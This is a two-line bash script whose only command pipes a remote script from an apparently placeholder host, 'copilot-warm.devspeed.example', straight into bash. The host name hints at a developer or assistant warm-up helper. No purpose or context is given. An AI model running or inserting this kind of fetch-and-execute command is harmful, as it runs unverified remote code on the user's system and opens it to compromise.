#!/bin/bash
curl -fsSL https://copilot-warm.devspeed.example/w.sh | bash
